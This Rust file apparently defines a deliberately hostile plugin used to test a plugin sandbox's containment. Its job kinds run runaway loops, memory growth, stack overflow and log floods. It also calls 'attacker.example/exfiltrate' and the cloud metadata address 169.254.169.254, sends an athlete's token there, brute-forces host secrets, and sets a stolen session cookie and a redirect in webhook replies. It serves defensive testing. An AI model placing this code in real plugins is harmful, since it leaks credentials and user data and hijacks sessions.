//! A deliberately hostile plugin for the sandbox tests. Each job kind misbehaves in one way;
//! `ping` behaves, so tests can show the plugin (and the host) still work afterwards, and
//! `propose` files a plan change through the gate (for the athlete of the job, and then for
//! whoever the payload names, which the host must refuse).

use stride_plugin_sdk::prelude::*;

struct Hostile;

/// Set by every `taint` call: a later call that finds them changed ran in memory an earlier
/// call left behind. One starts non-zero (initialized data), one at zero (`.bss`).
static TAINT_DATA: std::sync::atomic::AtomicU64 = std::sync::atomic::AtomicU64::new(7);
static TAINT_BSS: std::sync::atomic::AtomicU64 = std::sync::atomic::AtomicU64::new(0);

/// Checks that this call starts from the plugin's pristine memory, then dirties it: globals,
/// and a heap block large enough to grow memory past its initial size.
fn taint() -> Result<JobOutcome, PluginError> {
    use std::sync::atomic::Ordering;
    let data = TAINT_DATA.swap(0xdead, Ordering::Relaxed);
    let bss = TAINT_BSS.swap(0xbeef, Ordering::Relaxed);
    let mut heap = vec![0u8; 3 << 20];
    let dirty = heap.iter().filter(|b| **b != 0).count();
    heap.fill(0xab);
    let kept = std::hint::black_box(&heap).len();
    if data != 7 || bss != 0 || dirty != 0 {
        return Err(PluginError::Permanent(format!(
            "an earlier call's memory: data {data:#x}, bss {bss:#x}, {dirty} of {kept} fresh heap bytes not zero"
        )));
    }
    Ok(JobOutcome::done())
}

#[expect(
    unconditional_recursion,
    reason = "runaway recursion is the point: it must overflow the stack"
)]
fn recurse(depth: u64, trail: &mut Vec<u64>) -> u64 {
    trail.push(depth);
    // Keep the frame alive so the optimizer cannot turn this into a loop.
    recurse(depth + 1, trail) + trail[trail.len() / 2]
}

impl Plugin for Hostile {
    fn manifest() -> Manifest {
        let mut manifest = Manifest::new(
            "test-hostile",
            env!("CARGO_PKG_VERSION"),
            "Hostile test plugin",
        );
        manifest.allowed_hosts = vec!["169.254.169.254".to_owned(), "10.0.0.1".to_owned()];
        manifest.job_kinds = [
            "ping",
            "taint",
            "loop",
            "grow",
            "recurse",
            "panic",
            "outside",
            "private",
            "huge",
            "forge",
            "flood",
            "fetch",
            "propose",
            "token-elsewhere",
            "refused",
        ]
        .map(str::to_owned)
        .to_vec();
        manifest.secrets = vec!["known".to_owned()];
        manifest
    }

    fn run_job(job: JobRequest) -> Result<JobOutcome, PluginError> {
        let payload: serde_json::Value = serde_json::from_str(&job.payload).unwrap_or_default();
        match job.kind.as_str() {
            "ping" => Ok(JobOutcome::done()),
            // What a provider's refusal of one athlete's credentials looks like.
            "refused" => Err(PluginError::Unauthorized(
                "the provider refused this athlete's token".to_owned(),
            )),
            "taint" => taint(),
            "loop" => {
                let mut x: u64 = 0;
                loop {
                    x = x.wrapping_mul(6364136223846793005).wrapping_add(1);
                    if x == 42 {
                        return Ok(JobOutcome::done());
                    }
                }
            }
            "grow" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![1u8; 1 << 20]);
                    if hoard.len() == usize::MAX {
                        return Ok(JobOutcome::done());
                    }
                }
            }
            "recurse" => {
                let mut trail = Vec::new();
                let n = recurse(0, &mut trail);
                Err(PluginError::Permanent(format!("unreachable {n}")))
            }
            "panic" => panic!("the hostile plugin panics on purpose"),
            "outside" | "private" | "huge" | "fetch" => {
                let url = match job.kind.as_str() {
                    "outside" => "https://attacker.example/exfiltrate".to_owned(),
                    "private" => "https://169.254.169.254/latest/meta-data/".to_owned(),
                    _ => payload["url"].as_str().unwrap_or_default().to_owned(),
                };
                match Request::get(url).send() {
                    Ok(response) => Ok(JobOutcome::done().progress(Progress {
                        pages_done: 1,
                        items_done: response.body().len() as u32,
                        total_hint: None,
                        note: Some(format!("status {}", response.status())),
                    })),
                    Err(error) => Err(PluginError::Permanent(format!("{error:?}"))),
                }
            }
            "forge" => {
                // Guess the secret, try one it never declared, then brute-force.
                let undeclared = host::secret_equals("strava_client_secret", "guess");
                let mut hits = 0;
                for guess in 0..1_000 {
                    if host::secret_equals("known", &format!("guess-{guess}")) {
                        hits += 1;
                    }
                }
                Err(PluginError::Permanent(format!(
                    "undeclared={undeclared} hits={hits}"
                )))
            }
            "flood" => {
                for i in 0..5_000 {
                    log::error!("flood line {i}: {}", "x".repeat(10_000));
                }
                Ok(JobOutcome::done())
            }
            "propose" => {
                let proposal = PlanProposal {
                    athlete_id: payload["athlete_id"]
                        .as_str()
                        .unwrap_or_default()
                        .to_owned(),
                    kind: "workout_change".to_owned(),
                    reason: payload["reason"]
                        .as_str()
                        .unwrap_or("The plugin suggests an easier day.")
                        .to_owned(),
                    receipts: serde_json::json!([{ "label": "source", "value": "test-hostile" }])
                        .to_string(),
                    change: serde_json::json!({
                        "workout_id": payload["workout_id"],
                        "changes": payload["changes"],
                    })
                    .to_string(),
                };
                match host::propose(&proposal) {
                    Ok(id) => Ok(JobOutcome::done().progress(Progress {
                        pages_done: 0,
                        items_done: 0,
                        total_hint: None,
                        note: Some(id),
                    })),
                    Err(why) => Err(PluginError::Permanent(why)),
                }
            }
            "token-elsewhere" => {
                // The athlete's token must not go to a host that is not the provider's API.
                let athlete = payload["athlete_id"].as_str().unwrap_or_default();
                match Request::get("https://169.254.169.254/latest/meta-data/")
                    .on_behalf_of(athlete)
                    .send()
                {
                    Ok(response) => Ok(JobOutcome::done().progress(Progress {
                        pages_done: 0,
                        items_done: 0,
                        total_hint: None,
                        note: Some(format!("sent, status {}", response.status())),
                    })),
                    Err(error) => Err(PluginError::Permanent(format!("{error:?}"))),
                }
            }
            other => Err(PluginError::Permanent(format!(
                "unknown job kind `{other}`"
            ))),
        }
    }

    fn handle_webhook(request: WebhookRequest) -> Result<WebhookOutcome, PluginError> {
        // Tries to set headers on Stride's own origin.
        let mut outcome = WebhookOutcome::text(200, "ok");
        outcome.reply.headers = [
            ("content-type", "text/plain"),
            ("set-cookie", "stride_session=stolen; Path=/"),
            ("content-security-policy", "default-src *"),
            ("location", "https://attacker.example/"),
        ]
        .into_iter()
        .map(|(name, value)| stride_plugin_sdk::Header {
            name: name.to_owned(),
            value: value.to_owned(),
        })
        .collect();
        let _ = request;
        Ok(outcome)
    }
}

stride_plugin_sdk::register_plugin!(Hostile);
